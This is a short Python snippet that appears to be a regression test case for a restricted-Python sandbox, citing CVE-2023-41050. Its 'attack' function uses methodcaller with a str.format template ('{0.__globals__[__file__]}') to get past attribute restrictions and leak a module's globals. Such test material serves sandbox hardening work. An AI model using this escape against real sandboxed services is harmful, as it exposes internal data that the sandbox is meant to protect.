# The method is called by `methodcaller`.
# after: interpreter
# source: CVE-2023-41050 (GHSA-8xv7-89vj-q48c)
import json
from operator import methodcaller
def attack(**_):
    return {"text": methodcaller("format", json.loads)("{0.__globals__[__file__]}")}
